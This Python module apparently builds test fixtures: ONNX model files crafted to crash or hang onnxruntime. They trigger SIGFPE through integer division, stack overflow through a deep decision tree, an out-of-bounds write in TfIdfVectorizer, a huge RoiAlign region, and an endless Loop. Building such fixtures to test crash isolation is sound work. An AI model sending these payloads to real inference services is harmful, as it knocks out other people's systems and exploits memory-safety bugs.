"""Models that look harmless and kill the process in which onnxruntime loads or runs them."""

from __future__ import annotations

from typing import TYPE_CHECKING

import numpy as np
from graphs import ELEMENT_TYPES, build, constant, tensor
from onnx import helper

if TYPE_CHECKING:
    from collections.abc import Callable

SMALLEST = -(2**63)
CHAIN = 100_000


def division(dtype: str = "float64") -> bytes:
    """Return an integer division, quotient = dividend / divisor. -2^63 by -1 raises SIGFPE."""
    return build(
        [
            helper.make_node("Div", ["dividend", "divisor"], ["ratio"]),
            helper.make_node("Cast", ["ratio"], ["quotient"], to=ELEMENT_TYPES[dtype]),
        ],
        [tensor("dividend", "int64"), tensor("divisor", "int64")],
        [tensor("quotient", dtype)],
    )


def chain(nodes: int = CHAIN) -> bytes:
    """Return a decision tree with one long branch. Reading the tree recurses until the stack overflows."""
    count = 2 * nodes + 1
    is_leaf = [i % 2 == 1 or i == count - 1 for i in range(count)]
    tree = helper.make_node(
        "TreeEnsembleRegressor",
        ["x"],
        ["y"],
        domain="ai.onnx.ml",
        n_targets=1,
        nodes_treeids=[0] * count,
        nodes_nodeids=list(range(count)),
        nodes_featureids=[0] * count,
        nodes_values=[0.0] * count,
        nodes_modes=["LEAF" if leaf else "BRANCH_LEQ" for leaf in is_leaf],
        nodes_truenodeids=[0 if is_leaf[i] else i + 1 for i in range(count)],
        nodes_falsenodeids=[0 if is_leaf[i] else i + 2 for i in range(count)],
        target_treeids=[0] * sum(is_leaf),
        target_nodeids=[i for i in range(count) if is_leaf[i]],
        target_ids=[0] * sum(is_leaf),
        target_weights=[1.0] * sum(is_leaf),
    )
    return build([tree], [tensor("x", shape=("N", 2))], [tensor("y")], ml_opset=3)


def ngrams() -> bytes:
    """Return a TfIdfVectorizer with fewer indexes than ngrams: for numbers other than 0 it writes out of bounds."""
    node = helper.make_node(
        "TfIdfVectorizer",
        ["x"],
        ["y"],
        mode="TF",
        min_gram_length=1,
        max_gram_length=1,
        max_skip_count=0,
        ngram_counts=[0],
        ngram_indexes=[0],
        pool_int64s=list(range(100_000)),
    )
    return build([node], [tensor("x", "int64", ("N", 1))], [tensor("y", shape=("N", 1))])


def far_region() -> bytes:
    """Return a RoiAlign of a region 1e18 wide, with as many samples as the region is wide."""
    nodes = [
        helper.make_node("RoiAlign", ["image", "region", "batch"], ["roi"], sampling_ratio=0,
                         output_height=1, output_width=1),
        helper.make_node("ReduceSum", ["roi", "axes"], ["sum"], keepdims=0),
        helper.make_node("Add", ["x", "sum"], ["y"]),
    ]  # fmt: skip
    return build(
        nodes,
        [tensor("x", shape=("N", 1))],
        [tensor("y", shape=("N", 1))],
        constants=[
            constant("image", np.ones((1, 1, 4, 4))),
            constant("region", [[0, 0, 1e18, 1e18]]),
            constant("batch", [0], "int64"),
            constant("axes", [0, 1, 2, 3], "int64"),
        ],
    )


def endless() -> bytes:
    """Return a model y = x with a loop that never ends in practice."""
    body = helper.make_graph(
        [
            helper.make_node("Identity", ["go"], ["go_on"]),
            helper.make_node("Tanh", ["before"], ["after"]),
        ],
        "body",
        [tensor("turn", "int64", []), tensor("go", "bool", []), tensor("before", shape=("N", 1))],
        [tensor("go_on", "bool", []), tensor("after", shape=("N", 1))],
    )
    return build(
        [helper.make_node("Loop", ["turns", "yes", "x"], ["y"], body=body)],
        [tensor("x", shape=("N", 1))],
        [tensor("y", shape=("N", 1))],
        constants=[constant("turns", 2**62, "int64"), constant("yes", True, "bool")],
    )


KILLERS: dict[str, Callable[[], bytes]] = {
    "chain": chain,
    "ngrams": ngrams,
    "far_region": far_region,
}
"""`chain` and `far_region` kill the process when they are loaded, `ngrams` with each row that is not 0."""
